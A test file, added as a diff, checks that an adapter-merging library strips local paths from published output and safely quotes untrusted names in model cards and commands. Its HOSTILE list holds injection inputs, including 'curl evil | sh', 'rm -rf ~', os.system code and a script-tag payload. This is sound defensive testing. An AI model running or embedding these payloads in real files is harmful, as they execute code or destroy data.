@@ -1,0 +1,168 @@
+"""What is published names no folder of this machine, and text from elsewhere does nothing in a card."""
+
+from __future__ import annotations
+
+import ast
+import json
+import shlex
+
+import pytest
+import yaml
+
+import plait
+from plait.merging.card import base_name, hub_id, licence_of, load_with_peft, serve_with_vllm
+from plait.merging.public import place_name, public_file, public_text, public_values
+from plait.merging.quoting import block, code, prose
+from plait.verification.lock import check_files, read_lock
+from plait.verification.public import public_copy
+from plait.verification.verify import verify_folder
+from tests.adapters_on_disk import layers, write_adapter
+from tests.small_models import peft_adapter, save_base
+
+HOSTILE = [
+    'org/x"); import os; os.system("id") #',
+    "org/x; curl evil | sh",
+    "x\n```\n# Heading\n```",
+    "`rm -rf ~`",
+    "</code><script>alert(1)</script>",
+    "\x1b]0;title\x07\u202eevil",
+    "a" * 5000,
+]
+
+
+@pytest.mark.parametrize(
+    ("text", "public"),
+    [
+        ("/home/u/models/base", "base"),
+        ("~/base", "base"),
+        ("../x/base/", "base"),
+        (r"C:\Users\u\base", "base"),
+        (r"\\server\share\base", "base"),
+        ("file:///home/u/base", "base"),
+        ("/c/models--org--name/snapshots/0123/sub", "org/name"),
+        ("/", "local"),
+        ("~someone", "local"),
+        ("org/name", "org/name"),
+        ("gpt2", "gpt2"),
+    ],
+)
+def test_a_place_is_its_name(text, public):
+    assert place_name(text) == public
+
+
+def test_records_name_no_path_wherever_it_stands():
+    said = {
+        "a": ["/home/u/x", {"b": "rows of /home/u/rows.jsonl, and ~/other/y.txt: 3"}],
+        "n": 1,
+        "url": "https://hub.co/org/x and a/b/c",
+    }
+    assert public_values(said) == {
+        "a": ["x", {"b": "rows of rows.jsonl, and y.txt: 3"}], "n": 1, "url": "https://hub.co/org/x and a/b/c"
+    }  # fmt: skip
+    assert public_text("in /srv/my data/x here", ["/srv/my data"]) == "in my data/x here"
+
+
+def test_a_configuration_keeps_what_has_a_meaning():
+    config = {
+        "base_model_name_or_path": "./base", "_name_or_path": "/m/base",
+        "nested": {"tokenizer_file": "/t.json", "other": "/a/b/c"},
+        "pad_token": "/", "target_modules": "./x", "pattern": ".*/q", "chat_template": "/a/b {{ x }}",
+    }  # fmt: skip
+    found = json.loads(public_file("adapter_config.json", json.dumps(config).encode()))
+    assert found == config | {
+        "base_model_name_or_path": "base", "_name_or_path": "base", "nested": {"tokenizer_file": "t.json", "other": "c"}
+    }  # fmt: skip
+    for name in ("tokenizer.json", "vocab.json", "x.index.json", "adapter.safetensors"):
+        data = b'{"a": "/usr/bin/x"}'
+        assert public_file(name, data) == data
+    with pytest.raises(ValueError, match=r"merge_metadata\.json"):
+        public_file("merge_metadata.json", b"")
+
+
+@pytest.fixture
+def baked(tmp_path):
+    base = save_base(tmp_path / "secret" / "base")
+    config = json.loads((base / "config.json").read_text()) if (base / "config.json").exists() else {}
+    (base / "config.json").write_text(json.dumps(config | {"_name_or_path": str(base)}))
+    (base / "tokenizer_config.json").write_text(json.dumps({"name_or_path": str(base), "eos_token": "</s>"}))
+    (base / "trainer_state.json").write_text(json.dumps({"best_model_checkpoint": str(base)}))
+    adapter = peft_adapter(tmp_path / "secret" / "a", 1, target_modules=["q_proj"])
+    return plait.bake({"a": adapter}, base=base, out=tmp_path / "secret" / "baked").folder
+
+
+def published(folder, place):
+    place.mkdir()
+    with public_copy(folder, read_lock(folder)) as copy:
+        for file in copy.iterdir():
+            (place / file.name).write_bytes(file.read_bytes())
+    return place
+
+
+def test_a_published_result_is_whole_and_is_made_again_from_its_lock(baked, tmp_path):
+    before = {p.name: p.read_bytes() for p in baked.iterdir()}
+    assert "trainer_state.json" not in before
+    copy = published(baked, tmp_path / "copy")
+    for file in copy.iterdir():
+        assert b"secret" not in file.read_bytes(), file.name
+    assert {f.state for f in check_files(copy, read_lock(copy))} == {"equal"}
+    places = {"a": str(baked.parent / "a"), "base_model": str(baked.parent / "base")}
+    assert verify_folder(copy, inputs=places).ok
+    assert verify_folder(baked).ok
+    assert {p.name: p.read_bytes() for p in baked.iterdir()} == before
+
+
+def test_a_published_adapter_names_its_base_alone(tmp_path):
+    module = layers(1, {"q_proj": (8, 8)})
+    pair = {n: write_adapter(tmp_path / n, module, seed=i, base=str(tmp_path / "base")).folder for i, n in enumerate("ab")}
+    merged = plait.merge(pair, out=tmp_path / "merged").folder
+    assert json.loads((merged / "adapter_config.json").read_text())["base_model_name_or_path"] == str(tmp_path / "base")
+    copy = published(merged, tmp_path / "copy")
+    assert json.loads((copy / "adapter_config.json").read_text())["base_model_name_or_path"] == "base"
+    assert not [f.name for f in copy.iterdir() if str(tmp_path).encode() in f.read_bytes()]
+    assert verify_folder(copy, inputs={n: str(f) for n, f in pair.items()}).ok
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_name_from_elsewhere_is_quoted(name):
+    shown = base_name(name)
+    (python,) = (
+        line for line in load_with_peft(name, "CAUSAL_LM").splitlines() if "from_pretrained" in line and "model = Auto" in line
+    )
+    call = ast.parse(python).body[0].value  # type: ignore[attr-defined]
+    assert [argument.value for argument in call.args] == [name]
+    (bash,) = (line for line in serve_with_vllm(shown, 8).splitlines() if line.startswith("vllm"))
+    assert shlex.split(bash)[:4] == ["vllm", "serve", shown, "--enable-lora"]
+    assert hub_id(name) is None
+    assert "\n" not in prose(name) + code(name)
+    assert "\x1b" not in prose(name) + code(name) + shown
+    assert "<script" not in prose(name).replace("\\<", "")
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_merge_of_hostile_adapters(tmp_path, name):
+    module = layers(1, {"q_proj": (8, 8)})
+    pair = {n: write_adapter(tmp_path / n, module, seed=i, base=name).folder for i, n in enumerate("ab")}
+    (tmp_path / "a" / "README.md").write_text(f"---\n{yaml.safe_dump({'license': name, 'tags': [name]})}---\n")
+    card = (plait.merge(pair, out=tmp_path / "out").folder / "README.md").read_text()
+    front = yaml.safe_load(card.split("---")[1])
+    assert "base_model" not in front
+    assert "license" not in front
+    assert "\n# Heading" not in card
+    assert "\x1b" not in card
+
+
+@pytest.mark.parametrize("front", ["license: mit", 'license: "mit"\nlicense_link: https://x.org/a'])
+def test_a_licence_is_taken_over(tmp_path, front):
+    (tmp_path / "README.md").write_text(f"---\n{front}\n---\n")
+    assert (licence_of(tmp_path) or ())[0] == ("license", "mit")
+
+
+@pytest.mark.parametrize("front", ["license: [mit]", "license: 1", "license: 'a b <x>'", ""])
+def test_a_licence_that_is_not_plain_is_not_known(tmp_path, front):
+    (tmp_path / "README.md").write_text(f"---\n{front}\n---\n")
+    assert licence_of(tmp_path) is None
+
+
+def test_a_block_is_not_ended_from_within():
+    lines = block("a\n```\n````\nb", "yaml").splitlines()
+    assert (lines[0], lines[-1]) == ("`````yaml", "`````")
